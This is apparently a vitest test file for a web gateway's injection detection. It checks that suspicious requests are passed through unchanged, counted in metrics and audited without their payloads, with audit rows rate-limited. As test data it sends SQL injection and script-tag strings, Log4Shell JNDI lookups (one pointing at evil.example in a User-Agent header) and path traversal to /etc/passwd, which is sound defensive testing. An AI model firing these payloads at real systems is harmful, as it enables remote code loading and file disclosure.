// Requests that look like injection attempts are noticed, and go on to the site byte for byte.
import { afterAll, beforeAll, expect, it } from 'vitest'
import { type TestGateway, startGateway } from '../support/gateway.ts'
import { newPerson } from '../support/people.ts'
import { newVisitor } from '../support/visitor.ts'

const token = 'a-token-of-the-test'
let gateway: TestGateway
beforeAll(async () => {
  gateway = await startGateway({ bindings: { METRICS_TOKEN: token } })
})
afterAll(() => gateway.stop())

const rowsOf = (ip: string): Promise<Record<string, unknown>[]> =>
  gateway.sql(
    `select reason, details from audit_events where type = 'injection.sighted' and host(ip) = $1 order by at, id`,
    [ip],
  )

it('an attempt reaches the site as it was sent, is counted, and is on record without what was sent', async () => {
  const { visitor } = await newPerson(gateway)
  const query = `?id=1%27%20OR%20%271%27=%271&q=%3Cscript%3E`
  const answer = await visitor.send('GET', `/headers${query}`)
  expect(answer.status).toBe(200)
  expect(await answer.json()).toMatchObject({ url: `/headers${query}` })
  await expect
    .poll(() => rowsOf(visitor.ip), { timeout: 10_000 })
    .toEqual([{ reason: 'sql', details: { method: 'GET', path: '/headers' } }])
  const metrics = await fetch(`${gateway.url}/auth/metrics`, { headers: { authorization: `Bearer ${token}` } })
  expect(await metrics.text()).toMatch(/^portcullis_injection_sightings_total\{kind="sql"\} 1$/m)
})

it('a scanner fills no trail: three rows a minute', async () => {
  const visitor = newVisitor(gateway)
  for (let count = 0; count < 12; count += 1) await visitor.send('GET', '/public/a?x=${jndi:ldap://x}')
  await visitor.send('GET', '/a%2f..%2f..%2fetc/passwd')
  await expect.poll(async () => (await rowsOf(visitor.ip)).length, { timeout: 10_000 }).toBe(3)
})

it('a lookup in the name of the browser and a refused target are seen too', async () => {
  const [first, second] = [newVisitor(gateway), newVisitor(gateway)]
  await first.send('GET', '/public/a', undefined, { 'user-agent': '${jndi:ldap://evil.example/a}' })
  expect((await second.send('GET', '/public/..%2f..%2fetc%2fpasswd')).status).toBe(400)
  await expect.poll(() => rowsOf(first.ip), { timeout: 10_000 }).toMatchObject([{ reason: 'lookup' }])
  await expect.poll(() => rowsOf(second.ip), { timeout: 10_000 }).toMatchObject([{ reason: 'path' }])
})
